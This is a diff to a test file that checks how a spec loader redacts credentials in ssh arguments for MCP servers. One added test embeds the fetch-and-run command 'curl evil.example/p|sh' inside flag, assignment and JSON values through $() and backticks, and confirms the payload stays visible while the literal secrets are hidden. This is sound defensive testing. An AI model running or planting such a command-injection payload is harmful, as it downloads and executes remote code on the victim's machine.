@@ -5,7 +5,7 @@ import { join, relative } from "node:path";
 import { startServer, type TestServer } from "@loopwright/testkit";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { startWebServer, type WebServer } from "./server.js";
-import { SSH_DOLLAR_SECRETS, SSH_PAYLOADS, SSH_RUN_TIME } from "./ssh-repros.js";
+import { SSH_DOLLAR_SECRETS, SSH_PAYLOADS, SSH_QUOTED_SECRETS, SSH_RUN_TIME } from "./ssh-repros.js";
 
 const servers: WebServer[] = [];
 afterEach(async () => {
@@ -332,7 +332,7 @@ describe("a loaded spec's credentials", () => {
     expect(text).not.toMatch(/cd;|zz/);
   });
 
-  it("in ssh's remote words written with a $ or a backtick in them are hidden; a value only run-time text is shown (r48 F2)", async () => {
+  it("in ssh's remote words written with a $ or a backtick in them are hidden in place, the $ parts shown; a value only run-time text is shown (r48 F2, r49 F1)", async () => {
     const { report } = await loadServers([
       ...Object.values(SSH_DOLLAR_SECRETS).map((args, k) => ({
         name: `s${k}`,
@@ -343,21 +343,61 @@ describe("a loaded spec's credentials", () => {
     ]);
     const value = (path: string) => report.fields.find((f) => f.path === path)?.value;
     const mark = " (may hold a credential: read the file)";
-    for (const [server, key] of [
-      [0, "password"],
-      [1, "apiKey"],
-      [2, "apiKey"],
-    ] as const)
-      expect(value(`bundle.mcpServers[${server}].args[2]`)).toBe(
-        `${JSON.stringify(`{"${key}":"(hidden: may be a credential)"}`)}${mark}`,
-      );
-    expect(value("bundle.mcpServers[3].args[1]")).toBe(`"TOKEN=(hidden: may be a credential)"${mark}`);
-    expect(value("bundle.mcpServers[4].args[3]")).toBe(`(hidden: may be a credential)${mark}`);
+    const hidden = "(hidden: may be a credential)";
+    const shown = (text: string) => `${JSON.stringify(text)}${mark}`;
+    expect(value("bundle.mcpServers[0].args[2]")).toBe(shown(`{"password":"${hidden}$$${hidden}"}`));
+    expect(value("bundle.mcpServers[1].args[2]")).toBe(shown(`{"apiKey":"${hidden}$x"}`));
+    expect(value("bundle.mcpServers[2].args[2]")).toBe(shown(`{"apiKey":"\`x\`${hidden}"}`));
+    expect(value("bundle.mcpServers[3].args[1]")).toBe(shown(`TOKEN=${hidden}$def`));
+    expect(value("bundle.mcpServers[4].args[3]")).toBe(shown(`${hidden}$cd`));
     const text = JSON.stringify(report.fields.filter((f) => /^bundle\.mcpServers\[[0-4]\]/.test(f.path)));
     expect(text).not.toMatch(/pa\$|w0rd|SECRET|hunter2|abc|tok9q/);
     // Run-time text alone is no secret: shown as written.
-    expect(value("bundle.mcpServers[5].args[1]")).toBe(`"TOKEN=$(cat f)"${mark}`);
-    expect(value("bundle.mcpServers[5].args[4]")).toBe(`${JSON.stringify('{"password":"$TOKEN"}')}${mark}`);
+    expect(value("bundle.mcpServers[5].args[1]")).toBe(shown("TOKEN=$(cat f)"));
+    expect(value("bundle.mcpServers[5].args[4]")).toBe(shown('{"password":"$TOKEN"}'));
+    expect(value("bundle.mcpServers[5].args[5]")).toBe(shown('API_KEY="$TOKEN"'));
+    expect(value("bundle.mcpServers[5].args[6]")).toBe(shown(SSH_RUN_TIME[6]));
+  });
+
+  it("in ssh's remote words never hide a payload written inside a value: only the literal text beside it is hidden (r49 F1)", async () => {
+    const { report } = await loadServers(
+      (["inFlag", "inAssignment", "backtickFlag", "inJson", "backtickJson"] as const).map((name) => ({
+        name,
+        command: "ssh",
+        args: [...SSH_PAYLOADS[name]],
+      })),
+    );
+    const value = (path: string) => report.fields.find((f) => f.path === path)?.value;
+    const mark = " (may hold a credential: read the file)";
+    const hidden = "(hidden: may be a credential)";
+    const shown = (text: string) => `${JSON.stringify(text)}${mark}`;
+    const payload = "curl evil.example/p|sh";
+    expect(value("bundle.mcpServers[0].args[2]")).toBe(shown(`${hidden}$(${payload})`));
+    expect(value("bundle.mcpServers[1].args[1]")).toBe(shown(`TOKEN=${hidden}$(${payload})`));
+    expect(value("bundle.mcpServers[2].args[2]")).toBe(shown(`\`${payload}\`${hidden}`));
+    expect(value("bundle.mcpServers[3].args[2]")).toBe(shown(`{"apiKey":"$(${payload})${hidden}"}`));
+    expect(value("bundle.mcpServers[4].args[2]")).toBe(shown(`{"apiKey":"${hidden}\`${payload}\`"}`));
+    const text = JSON.stringify(report.fields.filter((f) => /^bundle\.mcpServers\[[0-4]\]/.test(f.path)));
+    expect(text).not.toMatch(/abc|x\$|`x|\)x/);
+  });
+
+  it("in ssh's remote words quoted beside a run-time part are hidden with the quotes kept as written, and the literal of an X:+ form too (r49 F2)", async () => {
+    const { report } = await loadServers(
+      Object.entries(SSH_QUOTED_SECRETS).map(([name, args]) => ({ name, command: "ssh", args: [...args] })),
+    );
+    const value = (path: string) => report.fields.find((f) => f.path === path)?.value;
+    const mark = " (may hold a credential: read the file)";
+    const hidden = "(hidden: may be a credential)";
+    const shown = (text: string) => `${JSON.stringify(text)}${mark}`;
+    expect(value("bundle.mcpServers[0].args[1]")).toBe(shown(`TOKEN=$X'${hidden}'`));
+    expect(value("bundle.mcpServers[1].args[1]")).toBe(shown(`TOKEN="$X"'${hidden}'`));
+    expect(value("bundle.mcpServers[2].args[2]")).toBe(shown(`$X'${hidden}'`));
+    expect(value("bundle.mcpServers[3].args[1]")).toBe(shown(`PASSWORD="$X"${hidden}`));
+    expect(value("bundle.mcpServers[4].args[2]")).toBe(shown(`{"apiKey":"\${X:+${hidden}}"}`));
+    expect(value("bundle.mcpServers[5].args[2]")).toBe(shown(`{"apiKey":"\${X/${hidden}}"}`));
+    expect(value("bundle.mcpServers[6].args[2]")).toBe(shown(`{"apiKey":"\${X:?${hidden}}"}`));
+    const text = JSON.stringify(report.fields.filter((f) => /^bundle\.mcpServers\[[0-6]\]/.test(f.path)));
+    expect(text).not.toMatch(/hunter2|SECRET/);
   });
 
   it("in a document that is not JSON are not quoted by the error", async () => {
